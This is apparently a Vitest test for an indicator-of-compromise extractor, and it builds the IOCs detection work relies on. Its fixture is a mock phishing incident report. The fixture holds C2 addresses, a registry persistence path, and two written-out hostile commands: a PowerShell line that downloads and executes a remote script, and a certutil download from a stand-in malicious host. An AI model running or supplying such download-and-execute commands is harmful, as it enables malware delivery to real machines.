import { expect, it } from 'vitest';
import { iocKey } from './ioc.js';
import { readImport } from './read-import.js';

const REPORT = String.raw`Subject: RE: [EXT] Invoice overdue - ACTION REQUIRED
From: "Billing" <billing@paypa1-secure.com>
Return-Path: bounce@mailer.paypa1-secure.com
X-Originating-IP: [45.77.12.9]

Hi team, pls block hxxps://login.paypa1-secure[.]com/auth/index.php?id=123&e=bob@corp.com asap!!
Payload: Invoice_2024-11.pdf.exe (MD5 d41d8cd98f00b204e9800998ecf8427e; size 1.2 MB)
C2s: 185.220.101[.]45:443, 185[.]220[.]101[.]46, cdn-update[.]top / api.cdn-update(.)top
Persistence: HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Updater.exe
powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString('http://185.220.101.45/a.ps1')"
cmd /c certutil -urlcache -split -f http://bad.example.ru/x.zip %TEMP%\x.zip
Sysmon: DestinationHostname: evil-cdn.xyz DestinationIp: 185.220.101.47 DestinationPort: 443
{"ts":"2024-11-01T10:00:00.123Z","id.orig_h":"10.0.0.5","query":"ns1.evil-cdn.xyz","host":"evil-cdn.xyz"}
| Indicator | Type |
| ~evil-cdn[.]xyz~ | domain |
- t.co/abc123 and bit.ly/3xYzAb
User-Agent: Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; .NET4.0C; .NET CLR 3.5.30729)
OpenSSL 1.1.1k, nginx/1.18.0, kernel 5.15.0-91-generic, Exchange 15.2.1118.7, Chrome/131.0.0.0
SHA256(/tmp/.x)= 9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08
node_modules/lodash.merge/index.js, src/app.module.ts, os.path.join, e.g.this
T1059.001, CVE-2024-3400, KB5034441, 2024.11.01`;

it('gives up the IOCs of an incident report, and nothing else', () => {
  const { items, faults, format } = readImport(REPORT);
  expect(format).toBe('text');
  expect(
    items.filter(({ isRepeated }) => !isRepeated).map((item) => `${item.line ?? 0}: ${iocKey(item)}`),
  ).toEqual([
    '4: ipv4 45.77.12.9',
    '6: url https://login.paypa1-secure.com/auth/index.php?id=123&e=bob@corp.com',
    '7: md5 d41d8cd98f00b204e9800998ecf8427e',
    '8: ipv4 185.220.101.45',
    '8: ipv4 185.220.101.46',
    '8: domain cdn-update.top',
    '8: hostname api.cdn-update.top',
    '10: url http://185.220.101.45/a.ps1',
    '11: url http://bad.example.ru/x.zip',
    '12: domain evil-cdn.xyz',
    '12: ipv4 185.220.101.47',
    '13: ipv4 10.0.0.5',
    '13: hostname ns1.evil-cdn.xyz',
    '16: url http://t.co/abc123',
    '16: url http://bit.ly/3xYzAb',
    '19: sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
  ]);
  expect(faults).toEqual([]);
});
